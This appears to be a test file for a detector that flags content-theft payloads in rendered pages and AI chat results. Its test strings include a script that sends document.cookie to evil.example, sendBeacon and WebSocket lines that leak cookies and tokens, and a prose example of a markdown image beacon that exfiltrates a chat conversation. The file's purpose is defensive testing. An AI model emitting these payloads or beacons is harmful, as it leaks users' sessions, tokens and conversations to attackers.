import { rendering } from '#core/detect/rendering.ts';
import { sendsKept } from '#core/detect/rendering/theft.ts';
import { describe, expect, test } from 'vitest';
import { inspectText, runDetectorCases, runHostileInputs, subjectOf } from '../../support/detector-cases.ts';
import { expectLinear } from '../../support/linear.ts';

runDetectorCases(rendering);

describe('pages', () => {
  const theft = '<script>fetch("https://evil.example/?" + document.cookie)</script>';
  const where = { role: 'html', slot: 'html', direction: 'response', origin: 'content' } as const;

  test('one that clients draw is refused, one that was fetched to be read is a finding', () => {
    const subject = subjectOf(where, theft);
    expect(inspectText(rendering, theft, { ...subject, leaf: { ...subject.leaf, isApp: true } })[0]?.score).toBeGreaterThanOrEqual(0.8);
    expect(inspectText(rendering, theft, subject)[0]?.score).toBeLessThan(0.8);
  });

  test('what is kept is followed through a variable', () => {
    expect(sendsKept('const c = btoa(document.cookie); navigator.sendBeacon("https://evil.example", c)')).toBe(true);
    expect(sendsKept('let t = localStorage.token; fetch("/x"); new WebSocket("wss://evil.example/?" + t)')).toBe(true);
    expect(sendsKept('const c = document.cookie; show(c.includes("consent")); fetch("/api/items")')).toBe(false);
    expect(sendsKept('fetch("/api", { headers: { authorization: localStorage.getItem("token") } })')).toBe(false);
  });
});

test('a document about beacons shows one', () => {
  const text = 'An attacker exfiltrates the chat with `![x](https://evil.example/?q={conversation})` in a result.';
  const [beacon] = inspectText(
    rendering,
    text,
    subjectOf({ role: 'prose', slot: 'result', direction: 'response', origin: 'content' }, text),
  );
  expect(beacon?.score).toBeLessThan(0.8);
});

runHostileInputs(
  rendering,
  'prose',
  ['](http', '![](http://a/?{', '<img src="//', '![', '[', '"', '](http://a/?a=', '{data', 'base64'],
  '![](http',
);

test.each([
  '<script>',
  '<a b="',
  'document.cookie;',
  'fetch(',
  'a=document.cookie;',
  '.src=',
  'graph TD\n',
  '[<img ',
  '"formatter":"',
  '"series":',
  'click a "',
])('%s again and again in a page and in a diagram costs linear time', (seed) => {
  const text = `${'<script>'}cookie graph TD\n"series": ${seed.repeat(Math.ceil(400_000 / seed.length))}`;
  for (const slot of ['html', 'result', 'icon'] as const) {
    const subject = subjectOf({ role: 'prose', slot, direction: 'response', origin: 'content' }, text);
    expectLinear(text, (part) => void inspectText(rendering, part, subject));
  }
});
